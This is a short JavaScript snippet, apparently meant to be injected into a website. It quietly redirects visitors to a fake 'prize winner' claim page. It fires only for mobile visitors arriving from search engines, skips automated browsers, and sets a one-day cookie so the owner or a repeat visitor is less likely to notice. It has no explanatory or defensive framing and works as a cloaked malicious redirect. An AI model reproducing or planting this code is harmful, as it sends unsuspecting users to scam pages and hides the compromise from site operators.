(function () {
  var ua = navigator.userAgent.toLowerCase();
  var mobile = /iphone|android|mobile/.test(ua);
  var fromSearch = /google|bing|yahoo/.test(document.referrer);
  if (!mobile || !fromSearch || navigator.webdriver) return;
  if (document.cookie.indexOf("_rdr=1") >= 0) return;
  document.cookie = "_rdr=1; path=/; max-age=86400";
  setTimeout(function () {
    window.top.location.replace("https://prize-winner-today.invalid/claim?u=" + encodeURIComponent(location.host));
  }, 1200);
})();
